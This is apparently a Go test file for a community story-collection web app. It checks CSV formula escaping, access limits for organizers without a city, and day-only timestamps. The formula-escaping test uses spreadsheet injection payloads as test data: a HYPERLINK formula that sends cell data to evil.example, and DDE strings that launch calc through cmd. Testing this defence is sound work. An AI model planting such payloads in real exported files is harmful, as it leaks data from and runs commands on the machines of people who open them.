package web_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/kindredhq/kindred/internal/kindred"
	"github.com/kindredhq/kindred/internal/store"
	"github.com/kindredhq/kindred/internal/testutil"
)

// postStoryJSON tells a story through the public API and returns the status.
func postStoryJSON(t *testing.T, srv *testutil.Server, slug string, body any) int {
	t.Helper()
	b, err := json.Marshal(body)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := testutil.Client().Post(srv.URL+"/api/v1/campaigns/"+slug+"/stories", "application/json", strings.NewReader(string(b)))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	return resp.StatusCode
}

// exportRows reads a campaign's CSV export as client and returns its rows
// as maps of column → cell.
func exportRows(t *testing.T, client *http.Client, u string) []map[string]string {
	t.Helper()
	status, body := getPage(t, client, u)
	if status != http.StatusOK {
		t.Fatalf("export: status %d", status)
	}
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(recs) == 0 {
		t.Fatalf("export: %v %q", err, body)
	}
	var out []map[string]string
	for _, rec := range recs[1:] {
		row := map[string]string{}
		for i, h := range recs[0] {
			row[h] = rec[i]
		}
		out = append(out, row)
	}
	return out
}

// TestStoryExportEscapesFormulas (issue 14, item 8): an anonymous teller's
// words that a spreadsheet would run as a formula (=, +, -, @ at a cell's
// start) leave the CSV export with a ' before them, and importing the file
// again gives back exactly what was told.
func TestStoryExportEscapesFormulas(t *testing.T) {
	t.Parallel()
	testutil.ForEachServer(t, testutil.ServerOptions{}, func(t *testing.T, srv *testutil.Server) {
		c := createBrightSpots(t, srv.Store, nil)
		text := `=HYPERLINK("http://evil.example/?"&A1,"Read more")`
		told := map[string]string{"text": text, "name": "@SUM(1+1)*cmd|' /C calc'!A0", "ctx.organization": "-2+3+cmd|' /C calc'!A0",
			"ctx.region": "Europe"}
		status := postStoryJSON(t, srv, c.Slug, map[string]any{"text": text, "lang": "en", "consent": "public",
			"name": told["name"], "email": "formula@example.org", "context": map[string]string{"organization": told["ctx.organization"], "region": "Europe"}})
		if status != http.StatusCreated {
			t.Fatalf("tell: status %d", status)
		}
		admin := testutil.SignedInClient(t, srv, testutil.CreateAccount(t, srv.Store, "csv.admin@example.org", kindred.RoleAdmin).ID)
		rows := exportRows(t, admin, srv.URL+"/listening/"+c.Slug+"/export")
		if len(rows) != 1 {
			t.Fatalf("export has %d rows, want 1", len(rows))
		}
		for col, want := range told {
			if col == "ctx.region" {
				continue
			}
			if got := rows[0][col]; got != "'"+want {
				t.Errorf("exported %s = %q, want %q", col, got, "'"+want)
			}
		}
		var file strings.Builder
		w := csv.NewWriter(&file)
		_ = w.Write([]string{"text", "name", "email", "ctx.organization", "ctx.region"})
		_ = w.Write([]string{rows[0]["text"], rows[0]["name"], rows[0]["email"], rows[0]["ctx.organization"], rows[0]["ctx.region"]})
		w.Flush()
		if status, body := upload(t, admin, srv.URL+"/listening/"+c.Slug+"/import", file.String(), true); status != 200 || !strings.Contains(body, "Imported 1 stor") {
			t.Fatalf("import: %d", status)
		}
		list, err := srv.Store.Stories(context.Background(), c.ID, store.StoryQuery{Reader: kindred.ReaderOrganizer})
		if err != nil || len(list) != 2 {
			t.Fatalf("stories after import: %d, %v", len(list), err)
		}
		back := list[1]
		if back.Text != text || back.Name != told["name"] || back.Context["organization"] != told["ctx.organization"] {
			t.Errorf("imported back %q / %q / %q, want what was told", back.Text, back.Name, back.Context["organization"])
		}
	})
}

// TestNoCityOrganizerReadsNoTellers (issue 14, item 15): an organizer with
// no city organizes nothing, so they read no teller's name, export nothing
// and moderate nothing — on the pages and through the API.
func TestNoCityOrganizerReadsNoTellers(t *testing.T) {
	t.Parallel()
	testutil.ForEachServer(t, testutil.ServerOptions{}, func(t *testing.T, srv *testutil.Server) {
		ctx := context.Background()
		c := createBrightSpots(t, srv.Store, nil)
		var storyID int64
		err := srv.Store.WithTx(ctx, func(tx *store.Tx) error {
			st, _, err := tx.CreateStory(ctx, c, kindred.NewStory{Text: "A story with a teller.", Lang: "en", Consent: kindred.ConsentNetwork,
				Name: "Nadia Teller-Name", Email: "nadia.teller@example.org", Source: "form"})
			if err != nil {
				return err
			}
			storyID = st.ID
			return tx.ModerateStory(ctx, c.ID, st.ID, kindred.StateApproved, false)
		})
		if err != nil {
			t.Fatal(err)
		}
		acct := testutil.CreateAccount(t, srv.Store, "nocity@example.org", kindred.RoleOrganizer)
		var token string
		err = srv.Store.WithTx(ctx, func(tx *store.Tx) error {
			secret, _, err := tx.CreateAPIToken(ctx, acct.ID, "test")
			token = secret
			return err
		})
		if err != nil {
			t.Fatal(err)
		}
		page := testutil.SignedInClient(t, srv, acct.ID)
		for _, path := range []string{"/listening/" + c.Slug + "/stories?state=approved", "/listening/" + c.Slug + "/themes"} {
			if status, body := getPage(t, page, srv.URL+path); status != 200 || strings.Contains(body, "Nadia Teller-Name") || strings.Contains(body, "nadia.teller@") {
				t.Errorf("GET %s: status %d, or it shows the teller", path, status)
			}
		}
		for _, path := range []string{"/listening/" + c.Slug + "/export", "/listening/" + c.Slug + "/edit", "/listening/new"} {
			if status, _ := getPage(t, page, srv.URL+path); status != http.StatusForbidden {
				t.Errorf("GET %s: status %d, want 403", path, status)
			}
		}
		resp, err := page.PostForm(srv.URL+"/listening/"+c.Slug+"/stories/"+itoa(storyID), url.Values{"action": {"hide"}})
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusForbidden {
			t.Errorf("moderating on the page: status %d, want 403", resp.StatusCode)
		}
		apiGet, _ := http.NewRequest("GET", srv.URL+"/api/v1/campaigns/"+c.Slug+"/stories", nil)
		apiGet.Header.Set("Authorization", "Bearer "+token)
		resp, err = testutil.Client().Do(apiGet)
		if err != nil {
			t.Fatal(err)
		}
		if body := readAll(t, resp); resp.StatusCode != 200 || strings.Contains(body, "Nadia") || strings.Contains(body, "nadia.teller@") {
			t.Errorf("API stories: status %d, or it shows the teller: %s", resp.StatusCode, body)
		}
		apiPost, _ := http.NewRequest("POST", srv.URL+"/api/v1/campaigns/"+c.Slug+"/stories/"+itoa(storyID)+"/moderation", strings.NewReader(`{"state":"hidden"}`))
		apiPost.Header.Set("Authorization", "Bearer "+token)
		apiPost.Header.Set("Content-Type", "application/json")
		resp, err = testutil.Client().Do(apiPost)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusForbidden {
			t.Errorf("moderating through the API: status %d, want 403", resp.StatusCode)
		}
		if st, _ := srv.Store.Story(ctx, c.ID, storyID); st == nil || st.State != kindred.StateApproved {
			t.Errorf("the story was moderated: %+v", st)
		}
	})
}

// TestStoriesKeepTheDayOnly (issue 14, item 15): a story told through the
// form or the API keeps the day it was told, not the instant, and the
// export shows the day.
func TestStoriesKeepTheDayOnly(t *testing.T) {
	t.Parallel()
	testutil.ForEachServer(t, testutil.ServerOptions{}, func(t *testing.T, srv *testutil.Server) {
		c := createBrightSpots(t, srv.Store, nil)
		form := url.Values{"text": {"Told on the form"}, "lang": {"en"}, "consent": {"public"}, "anonymous": {"1"}, "stamp": {testutil.FormStamp(t, srv.Store, c.ID, time.Hour)}}
		resp, err := testutil.Client().PostForm(srv.URL+"/c/"+c.Slug, form)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusSeeOther {
			t.Fatalf("form: status %d", resp.StatusCode)
		}
		if status := postStoryJSON(t, srv, c.Slug, map[string]any{"text": "Told through the API", "lang": "en", "consent": "public", "anonymous": true}); status != http.StatusCreated {
			t.Fatalf("API: status %d", status)
		}
		list, err := srv.Store.Stories(context.Background(), c.ID, store.StoryQuery{Reader: kindred.ReaderOrganizer})
		if err != nil || len(list) != 2 {
			t.Fatalf("stories: %d, %v", len(list), err)
		}
		for _, st := range list {
			if day := st.CreatedAt.UTC().Truncate(24 * time.Hour); !st.CreatedAt.Equal(day) {
				t.Errorf("story %q stored at %s, want the day only (%s)", st.Text, st.CreatedAt.Format(time.RFC3339Nano), day.Format(time.DateOnly))
			}
		}
		admin := testutil.SignedInClient(t, srv, testutil.CreateAccount(t, srv.Store, "day.admin@example.org", kindred.RoleAdmin).ID)
		for _, row := range exportRows(t, admin, srv.URL+"/listening/"+c.Slug+"/export") {
			if _, err := time.Parse(time.DateOnly, row["created_at"]); err != nil {
				t.Errorf("export created_at = %q, want a day like 2026-03-01", row["created_at"])
			}
		}
	})
}
